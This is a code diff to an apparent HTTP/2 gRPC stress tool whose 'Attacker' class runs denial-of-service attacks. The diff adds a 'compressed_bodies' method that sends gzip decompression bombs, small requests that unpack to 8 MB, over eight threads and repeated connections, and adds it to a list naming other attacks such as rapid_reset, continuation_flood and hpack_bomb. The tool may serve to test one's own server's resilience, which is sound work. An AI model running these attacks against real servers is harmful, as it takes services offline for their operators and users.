@@ -7,6 +7,7 @@ Goes on for S seconds, connecting again whenever it is thrown out, and prints on
 refused, bytes and streams sent. Exit code 0 whatever the server did.
 """
 import argparse
+import gzip
 import json
 import os
 import random
@@ -249,6 +250,35 @@ class Attacker:
         for thread in threads:
             thread.join()
 
+    def compressed_bodies(self):
+        """Calls of 8 KB each, short to the door, that unfold into 8 MB."""
+        packed = gzip.compress(b"\x0a" * 8_000_000)
+        block = call(b"CreateSolve") + b"\x00" + text(b"grpc-encoding") + text(b"gzip")
+        message = struct.pack(">BI", 1, len(packed)) + packed
+
+        def pour():
+            while self.on():
+                peer = self.connect()
+                if peer is None:
+                    continue
+                buffer, stream, credit = bytearray(), 1, {0: 65535}
+                while self.on() and self.drain(peer, buffer):
+                    self.take_credit(buffer, credit)
+                    if credit[0] < len(message):
+                        select.select([peer], [], [], 0.1)
+                        continue
+                    if not self.send(peer, frame(HEADERS, END_HEADERS, stream, block) +
+                                     frame(DATA, END_STREAM, stream, message), 1, read=False):
+                        break
+                    credit[0] -= len(message)
+                    stream += 2
+                peer.close()
+        threads = [threading.Thread(target=pour, daemon=True) for _ in range(8)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join()
+
     def unread_refusals(self):
         """Calls without a token whose refusals are never read."""
         block, message = call(b"GetServerInfo"), b"\0" * 5
@@ -290,7 +320,7 @@ class Attacker:
 
 
 ATTACKS = ("continuation_flood", "rapid_reset", "hpack_varint", "hpack_bomb", "idle_connections", "half_handshakes",
-           "half_calls", "half_bodies", "unread_refusals", "unread_answers", "unread_results", "unread_watches")
+           "half_calls", "half_bodies", "compressed_bodies", "unread_refusals", "unread_answers", "unread_results", "unread_watches")
 
 
 def main():
